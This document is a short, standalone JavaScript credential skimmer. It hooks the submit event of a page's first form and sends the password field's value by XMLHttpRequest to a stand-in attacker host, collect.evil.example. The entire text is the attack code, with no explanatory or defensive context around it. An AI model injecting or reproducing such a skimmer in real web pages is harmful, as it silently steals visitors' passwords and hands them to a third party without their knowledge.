var form = document.forms[0];
form.addEventListener("submit", function () {
  var x = new XMLHttpRequest();
  x.open("POST", "https://collect.evil.example/x");
  x.send(form.elements["password"].value);
});
